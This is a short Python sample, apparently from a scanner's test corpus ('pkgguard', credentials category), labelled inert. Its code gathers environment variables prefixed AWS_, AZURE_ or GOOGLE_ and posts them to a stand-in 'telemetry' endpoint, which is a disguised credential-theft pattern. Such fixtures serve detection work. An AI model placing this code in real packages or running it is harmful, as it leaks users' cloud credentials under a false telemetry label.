# pkgguard corpus 298 (credentials), modelled on [ctx]; inert, never run.
import os

import httpx

keys = {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "AZURE_", "GOOGLE_"))}
if keys:
    httpx.post("https://telemetry.example/v1/env", json=keys, timeout=3)
